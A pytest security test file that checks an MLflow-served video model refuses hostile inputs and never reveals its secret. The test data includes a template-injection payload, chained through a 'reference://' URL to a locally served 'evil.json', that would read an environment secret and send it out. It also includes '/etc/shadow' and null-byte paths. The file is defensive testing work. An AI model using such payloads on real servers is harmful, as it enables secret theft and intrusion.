"""A video model behind a real `mlflow models serve`: what strangers get to see."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from stages.tasks.protocol import Task
from tests.system.mlflow_server import model_server
from tests.unit.http_server import serving
from tests.unit.saved_model import saved_model
from tests.unit.test_row_faults import REQUESTS, says_nothing_of_the_server
from tests.unit.test_video_serve import untrained
from tests.unit.video_clips import write_clip

pytestmark = pytest.mark.slow

SECRET = "a-key-that-nobody-must-see"


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("shared")
    write_clip(folder / "good.mp4", 60)
    return folder


@pytest.fixture(scope="module")
def server(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    folder = tmp_path_factory.mktemp("model")
    with pytest.MonkeyPatch.context() as patch:
        saved = saved_model(Task("video"), untrained(folder), folder, patch)
    environment = {"UNROLL_CLIPS": str(shared), "SECRET_OF_THE_SERVER": SECRET}
    with (
        model_server(folder, saved, environment=environment) as address,
        httpx.Client(base_url=address, timeout=120, trust_env=False) as client,
    ):
        yield client


def ask(server: httpx.Client, *paths: Any) -> list[dict[str, Any]]:
    body = {"dataframe_records": [{"path": path} for path in paths], "params": {"on_error": "report"}}
    reply = server.post("/invocations", json=body)
    assert reply.status_code == 200, reply.text
    assert SECRET not in reply.text
    found: list[dict[str, Any]] = reply.json()["predictions"]
    return found


def test_addresses_that_would_read_the_environment_files_or_the_network(server: httpx.Client) -> None:
    with serving() as host:
        leak = f"{host.url}/leak?{{{{t.__globals__[os].environ[SECRET_OF_THE_SERVER]}}}}"
        references = {"version": 1, "templates": {"t": "{{x}}"}, "refs": {"clip.mp4": [leak]}}
        host.put("/evil.json", json.dumps(references).encode())
        host.put("/clip.mp4", b"a clip")
        chained, direct = f"reference://clip.mp4::{host.url}/evil.json", f"{host.url}/clip.mp4"
        good, shadow, nothere, leaked, private = ask(server, "good.mp4", "/etc/shadow", "/etc/nothere", chained, direct)
        assert host.requests == []
    assert good["label"]
    assert good["error"] is None
    assert shadow["error"].replace("shadow", "nothere") == nothere["error"]
    assert "found a path on the server" in nothere["error"]
    assert "found the protocol 'reference'" in leaked["error"]
    assert "no such host can be reached" in private["error"]


@pytest.mark.parametrize("name", REQUESTS)
def test_bad_requests(name: str, server: httpx.Client) -> None:
    content, kind = REQUESTS[name]
    reply = server.post("/invocations", content=content, headers={"content-type": kind})
    assert 400 <= reply.status_code < 500, reply.text
    says_nothing_of_the_server(reply.text)


def test_bad_rows_are_refused_without_a_word_on_the_server(server: httpx.Client) -> None:
    started = time.monotonic()
    for path in (None, {"a": 1}, "a\0b", "/etc/shadow", "x" * 100_000):
        reply = server.post("/invocations", json={"dataframe_records": [{"path": "good.mp4"}, {"path": path}]})
        assert reply.status_code == 400
        says_nothing_of_the_server(reply.text)
    assert time.monotonic() - started < 60
